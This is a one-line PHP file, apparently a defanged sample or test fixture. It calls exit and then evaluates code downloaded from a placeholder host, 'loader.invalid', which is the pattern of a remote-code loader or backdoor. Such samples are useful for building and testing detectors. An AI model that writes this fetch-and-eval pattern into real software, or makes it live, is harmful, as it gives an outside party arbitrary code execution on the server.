<?php exit; eval(file_get_contents("http://loader.invalid/x"));
